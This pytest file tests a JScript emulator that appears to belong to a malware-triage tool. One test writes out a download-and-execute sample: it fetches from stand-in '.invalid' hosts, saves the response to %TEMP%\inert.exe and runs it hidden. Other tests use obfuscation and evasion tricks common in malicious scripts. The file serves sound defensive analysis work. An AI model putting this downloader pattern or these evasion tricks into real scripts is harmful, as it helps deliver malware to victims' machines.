"""JScript, evaluated: what scripts come to, whatever they hide it behind."""

import pytest

from emotriage.emulation.jscript.run import run
from emotriage.model.limits import Budget, Limits

SHELL = 'var w = new ActiveXObject("WScript.Shell"); '


def effects(text: str, kind: str = "start") -> list[str]:
    """What a script would do of one kind."""
    return [one.what for one in run(text, Budget(Limits())).effects if one.kind == kind]


def value(expression: str) -> str:
    """An expression as text."""
    (one,) = effects(f"{SHELL} w.Run(String({expression}));")
    return one


@pytest.mark.parametrize(
    ("expression", "expected"),
    [
        ('"a" + 1 + 2', "a12"),
        ('1 + 2 + "a"', "3a"),
        ("[1, [2, 3]] + ''", "1,2,3"),
        ('"abc".charAt(1) + "abc".charCodeAt(2)', "b99"),
        ("String.fromCharCode(104, 105)", "hi"),
        ('"h-e-l-l-o".split("-").reverse().join("")', "olleh"),
        ('"a1b2".replace(/[0-9]/g, "")', "ab"),
        ('"ab".replace(/(.)(.)/, "$2$1")', "ba"),
        ('"abc".replace(/./g, function (one) { return one + "."; })', "a.b.c."),
        ('parseInt("ff", 16) + parseInt("12abc")', "267"),
        ("(255).toString(16) + (0.5).toString(2)", "ff0.1"),
        ('unescape("%68%u0069")', "hi"),
        ('decodeURIComponent("%e3%81%82")', "\u3042"),
        ("[3, 1, 2].sort(function (a, b) { return b - a; })", "3,2,1"),
        ('["a", "b"].map(function (one) { return one + one; }).join("")', "aabb"),
        ("(1, 2, 3)", "3"),
        ("typeof nothing + typeof 1 + typeof {}", "undefinednumberobject"),
        ("-1 >>> 28 | 1 << 4", "31"),
        ("0.1 + 0.2", "0.30000000000000004"),
        ("1e21 + 1/3", "1e+21"),
        ("null + 1", "1"),
        ('"3" * "4"', "12"),
        ("[] + {}", "[object Object]"),
        ("({ valueOf: function () { return 7; } }) + 1", "8"),
        ('"b" in { b: 1 } ? "yes" : "no"', "yes"),
        ("function () { return arguments.length; }(1, 2, 3)", "3"),
        ("new Function('a', 'return a * 2')(21)", "42"),
        ("eval('1; 2')", "2"),
        (r"'\x68\u0069\151'", "hii"),
        ("[].concat(1, [2], 3).slice(-2)", "2,3"),
        ("[1, 2, 3, 4].splice(1, 2)", "2,3"),
    ],
)
def test_expressions_come_to_what_jscript_makes_of_them(expression, expected):
    assert value(f"({expression})") == expected


@pytest.mark.parametrize(
    "body",
    [
        "for (var i = 0, s = ''; i < 3; i++) s += i; w.Run('x' + s);",
        "var i = 0, s = ''; while (true) { if (i > 2) break; s += i++; } w.Run('x' + s);",
        "var i = 0, s = ''; do { s += i; } while (++i < 3); w.Run('x' + s);",
        "var s = ''; for (var k in [7, 7, 7]) s += k; w.Run('x' + s);",
        (
            "var s = ''; a: for (var i = 0; i < 9; i++) { for (;;) { if (i == 3) break a; s += i; continue a; } }"
            " w.Run('x' + s);"
        ),
        "switch ('b') { case 'a': w.Run('no'); break; case 'b': w.Run('x012'); break; default: w.Run('no'); }",
        "try { throw 'x012'; } catch (e) { w.Run(e); }",
        "try { nothing.there(); w.Run('no'); } catch (e) { w.Run('x012'); }",
        "with ({ a: 'x01' }) { w.Run(a + '2'); }",
        "function F() { this.a = 'x01'; } F.prototype.b = function () { return this.a + 2; }; w.Run(new F().b());",
        "String.prototype.z = function () { return this + '2'; }; w.Run('x01'.z());",
        "var f = (function () { var n = 0; return function () { return n++; }; })(); w.Run('x' + f() + f() + f());",
        "var a = ['2', 'x', '01']; (function (l, n) { while (n--) l.push(l.shift()); })(a, 1); w.Run(a.join(''));",
        "/*@cc_on w.Run('x012'); @*/",
        "this['ev' + 'al'](\"w['R' + 'un']('x012')\");",
        "setTimeout(function () { w.Run('x012'); }, 10);",
        "for (var i = 0; i < 99999999; i++) { } w.Run('x012');",
        (
            "function d() { for (var i = 0; i < 9e6; i++) for (var n = 0; n < 9e6; n++) {"
            " if (i == 77) return 'x012'; } } w.Run(d());"
        ),
        "function a() { } function a.b() { return 'x012'; } w.Run(a.b());",
        "if (new Date().getTime() > 5) { w.Run('x012'); } else { w.Popup('no'); }",
        "[]['constructor']['prototype']['sort']['apply']()['w']['Run']('x012');",
    ],
)
def test_statements_lead_where_jscript_goes(body):
    assert effects(SHELL + body) == ["x012"]


def test_both_sides_of_what_nobody_knows_are_followed():
    text = (
        f"{SHELL} if (w.RegRead('x') == 1) {{ w.Run('one'); WScript.Quit(); }} else {{ w.Run('two'); }} w.Run('three');"
    )
    assert effects(text) == ["one", "two", "three"]


def test_a_download_that_nobody_can_check_goes_on():
    text = """
    var x = WScript.CreateObject("MSXML2.XMLHTTP"), s = new ActiveXObject("ADODB.Stream");
    var w = new ActiveXObject("WScript.Shell");
    for (var i = 0; i < 2; i++) { try {
      x.open("GET", "http://" + "abc".charAt(i) + ".emotriage.invalid/", false); x.send();
      if (x.status == 200) { s.Open(); s.Write(x.ResponseBody); s.SaveToFile("%TEMP%\\\\inert.exe", 2);
        if (s.size < 100) continue; w.Run("%TEMP%\\\\inert.exe", 0); break; }
    } catch (e) { continue; } }"""
    assert effects(text, "fetch")[0] == "http://a.emotriage.invalid/"
    assert effects(text, "write") == ["%TEMP%\\inert.exe"]
    assert effects(text) == ["%TEMP%\\inert.exe"]


def test_what_is_written_is_kept():
    text = 'var f = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile("a.vbs");'
    text += 'f.WriteLine("one"); f.Write("two");'
    (one,) = [one for one in run(text, Budget(Limits())).effects if one.kind == "write"]
    assert (one.what, one.detail) == ("a.vbs", "one\r\ntwo")


@pytest.mark.parametrize("depth", [10, 100_000])
@pytest.mark.parametrize(
    "unit", [("(", ")"), ("[", "]"), ("!", ""), ("{", "}"), ("a?", ":1"), ("function(){", "}"), ("if(a)", ";")]
)
def test_no_depth_is_too_deep(unit, depth):
    text = unit[0] * depth + "1" + unit[1] * depth + f"\n;{SHELL} w.Run('x');"
    assert run(text, Budget(Limits())).layers


@pytest.mark.parametrize(
    "text",
    [
        "function f() { return f(); } f();",
        "function f() { f(); f(); } f();",
        "for (;;) {}",
        "var s = 'a'; for (;;) s += s;",
        "var a = []; for (;;) a = [a, a];",
        "eval(s = 'eval(s)');",
        "var t = ''; for (;;) { t += 'x'; eval(t); }",
        "[3, 2, 1].sort(function () { for (;;) { } });",
        "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'.match(/(a+)+$/);",
        "throw 1; }}} (((",
        "var a = [1]; a.length = -1; a[4294967295] = 1; a[1e9] = 1;",
        "x = { get a() { return 1; } }; class A { } let [b, c] = [1, 2]; `t${1}`;",
        "while (1) { try { throw 1; } catch (e) { continue; } }",
        "new Array(1e9); 'a'.repeat(1e9); new Array(-1); Array(1.5);",
        "parseInt('9'.repeat(400), 36).toString(36); (1e308 * 10).toString(2);",
        "\0\x01\xff@*/ /*@if(@_win32) @else @end",
    ],
)
def test_any_text_ends(text):
    run(text, Budget(Limits()))


def test_work_grows_with_the_text():
    spent = []
    for size in (1000, 2000):
        budget = Budget(Limits())
        run("var a = 'x'; a = a + 'y'; if (a) { a = [a, 1, {b: 2}]; }\n" * size, budget)
        spent.append(budget.work)
    assert spent[1] < 2.5 * spent[0]
